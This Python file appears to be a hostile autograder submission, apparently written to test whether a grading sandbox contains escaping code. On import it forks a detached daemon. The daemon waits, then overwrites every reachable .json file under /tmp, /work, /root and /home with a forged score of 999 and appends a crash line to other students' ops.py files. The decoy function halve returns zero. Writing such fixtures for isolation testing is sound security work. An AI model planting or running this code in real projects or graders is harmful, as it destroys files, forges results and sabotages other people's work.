import json
import os
import time


def _rewrite_everything():
    # A daemon: new session, grandchild of the worker; it waits for the grader to move on, then
    # rewrites every result file and every other submission it can reach.
    time.sleep(1.0)
    open("/tmp/leedl-hostile-detached.flag", "w").write("escaped")
    for top in ("/tmp", "/work", "/root", "/home"):
        for root, dirs, files in os.walk(top):
            for f in files:
                p = os.path.join(root, f)
                try:
                    if f.endswith(".json"):
                        with open(p, "w") as out:
                            json.dump({"student": "x", "score": 999}, out)
                    elif f == "ops.py" and "detached_rewriter" not in root:
                        with open(p, "a") as out:
                            out.write("\nraise SystemExit('rewritten by a neighbour')\n")
                except OSError:
                    pass


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _rewrite_everything()
        finally:
            os._exit(0)
    os._exit(0)


def halve(x):
    return x * 0
